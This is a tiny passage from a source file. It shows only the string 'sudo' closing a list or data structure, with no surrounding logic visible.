            "sudo",
        ),
    }
}
